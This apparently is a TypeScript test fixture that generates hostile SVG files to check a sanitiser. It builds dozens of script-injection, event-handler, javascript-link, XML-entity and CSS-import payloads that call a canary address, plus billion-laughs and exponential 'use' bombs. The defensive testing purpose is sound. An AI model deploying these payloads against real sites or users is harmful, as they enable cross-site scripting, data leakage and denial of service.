// SVGs that try to run something or to call somebody, each in another way. `canary` is an address that nobody may ask;
// whoever runs a script asks it as well.
import { gzipSync } from 'node:zlib'

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const SIZE = 'width="100" height="100"'
const RECT = `<rect ${SIZE} fill="#0a0"/>`

/** Name → file. */
export function attacks(canary: string): Record<string, Buffer> {
  const run = (name: string) => `fetch('${canary}/${name}');document.title='ran'`
  const svg = (inside: string, more = '') => `<svg ${SVG} ${SIZE} viewBox="0 0 100 100"${more}>${RECT}${inside}</svg>`
  const base64 = (text: string) => Buffer.from(text).toString('base64')
  const inner = svg(`<script>${run('inner')}</script>`, ' id="x"')
  const texts: Record<string, string> = {
    script: svg(`<script>${run('script')}</script>`),
    'script-cdata': svg(`<script type="text/ecmascript"><![CDATA[${run('script-cdata')}]]></script>`),
    'script-href': svg(`<script href="${canary}/script-href.js"/><script xlink:href="${canary}/xlink.js"/>`),
    'script-data': svg(`<script href="data:text/javascript,${encodeURIComponent(run('script-data'))}"/>`),
    'script-other-prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg" ${SIZE}><s:rect ${SIZE}/><s:script>${run('prefix')}</s:script></s:svg>`,
    'script-rebound-prefix': svg(
      `<g xmlns:xlink="http://www.w3.org/2000/svg"><xlink:script>${run('rebound')}</xlink:script></g>`,
    ),
    'script-html': svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run('html')}</h:script>`),
    'script-module': svg(`<script type="module">import '${canary}/module.js'</script>`),
    onload: svg('', ` onload="${run('onload')}"`),
    'onload-inside': svg(`<g onload="${run('onload-inside')}"/><image href="x" onerror="${run('onerror')}"/>`),
    onclick: svg(
      `<rect ${SIZE} onclick="${run('onclick')}" onmouseover="${run('over')}" onfocusin="${run('focus')}"/>`,
    ),
    onbegin: svg(`<animate attributeName="x" dur="1s" onbegin="${run('onbegin')}"/><set onend="${run('onend')}"/>`),
    'set-onclick': svg(
      `<rect ${SIZE}><set attributeName="onmouseover" to="${run('set')}"/><animate attributeName="onclick" values="${run('set')}"/></rect>`,
    ),
    'foreign-html': svg(
      `<foreignObject ${SIZE}><body xmlns="http://www.w3.org/1999/xhtml"><img src="${canary}/img" onerror="${run('img')}"/><iframe src="${canary}/frame"/><script>${run('foreign')}</script></body></foreignObject>`,
    ),
    'html-media': svg(
      `<h:video xmlns:h="http://www.w3.org/1999/xhtml" src="${canary}/video" autoplay="true"/><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="${canary}/img2"/><h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${canary}/link"/><h:base xmlns:h="http://www.w3.org/1999/xhtml" href="${canary}/"/>`,
    ),
    'html-refresh': svg(
      `<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${canary}/refresh"/>`,
    ),
    'link-javascript': svg(`<a xlink:href="javascript:${run('link')}"><rect ${SIZE}/></a>`),
    'link-javascript-spelled': svg(`<a href="&#106;ava&#x09;script&#x3a;${run('link2')}"><rect ${SIZE}/></a>`),
    'link-data': svg(`<a href="data:text/html,&lt;script>${run('link3')}&lt;/script>"><rect ${SIZE}/></a>`),
    'link-outside': svg(`<a href="${canary}/link-outside"><rect ${SIZE}/></a>`),
    'link-animated': svg(
      `<a><rect ${SIZE}/><animate attributeName="href" values="javascript:${run('animated')}"/><set attributeName="xlink:href" to="javascript:${run('set-href')}"/></a>`,
    ),
    'animate-values-url': svg(
      `<rect ${SIZE}><animate attributeName="fill" to="url(${canary}/animate#a)" dur="1s"/></rect>`,
    ),
    'use-data': svg(`<use href="data:image/svg+xml;base64,${base64(inner)}#x"/>`),
    'use-outside': svg(
      `<use href="${canary}/use.svg#x"/><use xlink:href="//${canary.replace(/^\w+:\/\//, '')}/use2.svg#x"/>`,
    ),
    'image-svg-data': svg(`<image ${SIZE} href="data:image/svg+xml;base64,${base64(inner)}"/>`),
    'image-svg-in-disguise': svg(`<image ${SIZE} href="data:image/png;base64,${base64(inner)}"/>`),
    'image-outside': svg(`<image ${SIZE} href="${canary}/image"/><image ${SIZE} xlink:href="${canary}/image2"/>`),
    'image-base': svg(`<g xml:base="${canary}/"><image ${SIZE} href="base.png"/></g>`, ` xml:base="${canary}/"`),
    'filter-image': svg(`<filter id="f"><feImage href="${canary}/feimage"/></filter><rect ${SIZE} filter="url(#f)"/>`),
    'fill-outside': svg(
      `<rect ${SIZE} fill="url(${canary}/fill#a)"/><rect ${SIZE} style="mask:url('${canary}/mask#a')" clip-path="URL( ${canary}/clip#a )"/>`,
    ),
    'fill-spelled': svg(
      `<rect ${SIZE} fill="u\\72l(${canary}/spelled#a)" style="fill:u\\000072l(${canary}/spelled2#a)"/>`,
    ),
    // A letter to CSS: the address of a neighbour in the bucket.
    'fill-no-break-space': svg(
      `<rect ${SIZE} fill="url(&#xa0;#a)" style="mask:url(&#xfeff;#b)"/><style>rect{background:url(&#x3000;#c)}svg{background:url('&#xa0;#d')}</style>`,
    ),
    'use-no-break-space': svg(`<use href="&#xa0;#a"/><use xlink:href="&#x3000;#b"/><image ${SIZE} href="&#xfeff;#c"/>`),
    'cursor-outside': svg(
      `<rect ${SIZE} cursor="url(${canary}/cursor),auto" style="cursor:url(${canary}/cursor2),auto"/>`,
    ),
    'style-import': svg(`<style>@import "${canary}/import";@import url(${canary}/import2);rect{fill:red}</style>`),
    'style-import-cdata': svg(`<style><![CDATA[@im/**/port "${canary}/i";@import url("${canary}/cdata");]]></style>`),
    'style-import-spelled': svg(`<style>@\\69mport url(${canary}/spelled3);rect{fill:red}</style>`),
    'style-url': svg(`<style>rect{background:url(${canary}/bg);fill:url(${canary}/rect#a)}</style>`),
    'style-image-set': svg(
      `<style>svg{background-image:image-set("${canary}/set" 1x);list-style:-webkit-image-set(url(${canary}/s2) 1x)}</style>`,
      ` style="background:image-set('${canary}/set3' 1x)"`,
    ),
    'style-src': svg(
      `<style>@font-face{font-family:a;src:url(${canary}/font)}text{font-family:a}</style><text y="50">a</text>`,
    ),
    'style-namespace': svg(
      `<style>@namespace url(${canary}/ns);@charset "utf-7";@document url(${canary}/doc){rect{fill:url(${canary}/d#a)}}</style>`,
    ),
    'style-html': svg(`<h:style xmlns:h="http://www.w3.org/1999/xhtml">@import "${canary}/html-style";</h:style>`),
    'style-element-inside': svg(`<style><g/>@import "${canary}/inside";<script>${run('in-style')}</script></style>`),
    'style-type': svg(`<style type="text/css" media="all">svg{background:URL(${canary}/type)}</style>`),
    'style-unclosed': svg(
      `<style>rect{fill:"}@import url(${canary}/unclosed);/*</style><style>*/svg{background:url('${canary}/u2')}</style>`,
    ),
    'stylesheet-instruction': `<?xml version="1.0"?><?xml-stylesheet href="${canary}/pi.css"?>${svg('')}`,
    'xslt-instruction': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}/pi.xsl"?>${svg('')}`,
    'entity-script': `<!DOCTYPE svg [<!ENTITY s "<script>${run('entity')}</script>">]>${svg('&s;')}`,
    'entity-outside': `<!DOCTYPE svg [<!ENTITY s SYSTEM "${canary}/entity">]>${svg('<text>&s;</text>')}`,
    'entity-parameter': `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${canary}/parameter">%p;]>${svg('')}`,
    'attribute-declared': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run('attlist')}">]>${svg('')}`,
    'doctype-outside': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${canary}/svg11.dtd">${svg('')}`,
    'byte-order-mark': `\uFEFF${svg(`<script>${run('bom')}</script>`)}`,
    'comment-in-front': `<!-- ${'x'.repeat(500)} -->\n${svg(`<script>${run('comment')}</script>`)}`,
    'handler-tiny': svg(
      `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run('tiny')}</handler>`,
    ),
    'embedded-object': svg(
      `<iframe href="${canary}/i" src="${canary}/i2"/><embed src="${canary}/e"/><object data="${canary}/o"/>`,
    ),
  }
  const files = Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, Buffer.from(text)]))
  const script = texts['script'] ?? ''
  return {
    ...files,
    'utf-16': Buffer.from(`\uFEFF${script}`, 'utf16le'),
    'utf-16-undeclared': Buffer.from(script, 'utf16le'),
    'utf-7': Buffer.from(`<?xml version="1.0" encoding="utf-7"?>${svg('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`),
    'ebcdic-declared': Buffer.from(`<?xml version="1.0" encoding="ebcdic-cp-us"?>${script}`),
    'latin-1': Buffer.from(`<?xml version="1.0" encoding="iso-8859-1"?>${svg('<text>é</text>')}`, 'latin1'),
    gzip: gzipSync(script),
  }
}

/** Small files that would keep a reader's browser busy for ever. */
export function bombs(): Record<string, Buffer> {
  const levels = (count: number, level: (i: number) => string) =>
    Array.from({ length: count }, (_, i) => level(i)).join('')
  const svg = (inside: string) => Buffer.from(`<svg ${SVG}>${inside}</svg>`)
  const rects = '<rect/>'.repeat(1000)
  const line = `d="M0 0${'h1'.repeat(1000)}"`
  const inherited = (fill: string, more = '') =>
    svg(
      `${more}<pattern id="p"><g ${fill.replace('#p', '#q')}>${rects}</g></pattern><pattern id="q">${rects}</pattern><g ${fill}>${rects}</g>`,
    )
  const byRule = (sheet: string) =>
    svg(`<style>${sheet}</style><pattern id="q">${rects}</pattern><g class="p">${rects}</g>`)
  return {
    'use of use, percent-encoded': svg(
      `<g id="u0"><rect/></g>${levels(9, (i) => `<g id="u${i + 1}">${`<use href="#%75${i}"/>`.repeat(10)}</g>`)}<rect fill="url(#%75)"/>`,
    ),
    'markers for each vertex': svg(`<marker id="m">${rects}</marker><path ${line} style="marker-mid:url(#m)"/>`),
    'markers for each vertex, inherited': svg(
      `<marker id="m">${rects}</marker><g style="--a:url(#m)"><path ${line} style="marker:var(--a)"/></g>`,
    ),
    'markers for each vertex, used': svg(
      `<marker id="m">${rects}</marker><path id="l" ${line}/><use href="#l" marker-mid="url(#m)"/>`,
    ),
    'markers for each vertex by style sheet': svg(
      `<style>path{d:path("M0 0${'h1'.repeat(1000)}")}</style><marker id="m">${rects}</marker><path marker-mid="url(#m)"/>`,
    ),
    'fill that is inherited': inherited('fill="url(#p)"'),
    'stroke that is inherited': inherited('style="stroke:url(#p)"'),
    'fill that is inherited by what is used': svg(
      `<pattern id="p">${rects}</pattern><g id="g">${rects}</g><use href="#g" fill="url(#p)"/>`,
    ),
    'fill that is inherited by style sheet': byRule('.p{fill:url(#q)}'),
    'fill that is inherited by nested rule': byRule('g{fill:url(#q);rect{}}'),
    'fill that is inherited by nested self': byRule('.p{&{fill:url(#q)}}'),
    'fill that is inherited by a grouped rule': byRule('@media all{@supports (x:y){.p{fill:url(#q)}}}'),
    'fill that is inherited by keyframes': byRule('@keyframes k{from,to{fill:url(#q)}}.p{animation:k 1s}'),
    'fill that is inherited by a rule behind strings': byRule('[a="{"],.p{fill:url(#q)}'),
    'fill that is inherited by animation': svg(
      `<pattern id="p">${rects}</pattern><g id="g">${rects}</g><set href="#g" attributeName="fill" to="url(#p)"/>`,
    ),
    'masks that are inherited in words': svg(
      `<mask id="m">${rects}</mask><g mask="url(#m)">${'<rect mask="inherit"/>'.repeat(1000)}</g>`,
    ),
    'use of use': svg(
      `<g id="u0"><rect/></g>${levels(9, (i) => `<g id="u${i + 1}">${`<use href="#u${i}"/>`.repeat(10)}</g>`)}`,
    ),
    'use of use by xlink': svg(
      `<g id="u0"><rect/></g>${levels(9, (i) => `<g id="u${i + 1}">${`<use xlink:href="#u${i}"/>`.repeat(10)}</g>`)}`,
    ),
    'use of itself': svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    'pattern of pattern': svg(
      `<pattern id="p0"><rect/></pattern>${levels(9, (i) => `<pattern id="p${i + 1}">${`<rect fill="url(#p${i})"/>`.repeat(10)}</pattern>`)}<rect fill="url(#p9)"/>`,
    ),
    'pattern of pattern by style sheet': svg(
      `<style>${levels(9, (i) => `.c${i}{fill:url(#p${i})}`)}</style><pattern id="p0"><rect/></pattern>${levels(9, (i) => `<pattern id="p${i + 1}">${`<rect class="c${i}"/>`.repeat(10)}</pattern>`)}<rect style="fill:url('#p9')"/>`,
    ),
    'mask in mask by animation': svg(
      `<mask id="m0"><rect/></mask>${levels(9, (i) => `<mask id="m${i + 1}">${`<g><rect/><set attributeName="mask" to="url(#m${i})"/></g>`.repeat(10)}</mask>`)}<rect mask="url(#m9)"/>`,
    ),
    'a long chain': svg(`<g id="c0"/>${levels(30_000, (i) => `<use id="c${i + 1}" href="#c${i}"/>`)}`),
    nesting: svg('<g>'.repeat(20_000) + '</g>'.repeat(20_000)),
    entities: Buffer.from(
      `<!DOCTYPE svg [<!ENTITY a "ha">${levels(9, (i) => `<!ENTITY ${'abcdefghij'[i + 1]} "${`&${'abcdefghij'[i]};`.repeat(10)}">`)}]><svg ${SVG}><text>&j;</text></svg>`,
    ),
  }
}
